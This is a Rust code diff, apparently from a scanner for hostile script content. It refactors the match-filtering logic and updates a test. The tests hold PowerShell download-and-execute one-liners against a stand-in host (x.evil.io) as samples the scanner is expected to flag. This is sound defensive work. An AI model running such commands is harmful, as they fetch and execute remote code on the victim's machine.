@@ -191,11 +191,10 @@ pub(crate) fn read(text: &str, reading: &Reading<'_>) -> Vec<Hit> {
                 && lower.get(..found.start()).is_some_and(|before| {
                     before.ends_with('.') && !before.ends_with("process.") && !before.ends_with("cp.")
                 });
-            (!(word_before && starts_word) && !method).then_some(Found {
-                marker,
-                start: found.start(),
-                end: found.end(),
-            })
+            if method || (word_before && starts_word) {
+                return None;
+            }
+            Some(Found { marker, start: found.start(), end: found.end() })
         })
         .chain(first_marker(&lower))
         .collect();
@@ -224,7 +223,7 @@ struct Eye<'r> {
     hits: Vec<Hit>,
 }
 
-impl<'r> Eye<'r> {
+impl Eye<'_> {
     /// Learns where names' values come from.
     fn learn(&mut self) {
         let mut start = 0;
@@ -523,7 +522,7 @@ mod tests {
 
     #[test]
     fn powershell_is_followed() {
-        assert!(rules("IEX (New-Object Net.WebClient).DownloadString('http://x.evil.io/a')\nInvoke-Expression (iwr x)").is_empty() == false);
+        assert!(!rules("IEX (New-Object Net.WebClient).DownloadString('http://x.evil.io/a')").is_empty());
         assert!(
             rules("$c = Invoke-WebRequest https://x.evil.io/a\nInvoke-Expression $c.Content")
                 .contains(&"run-remote-code")
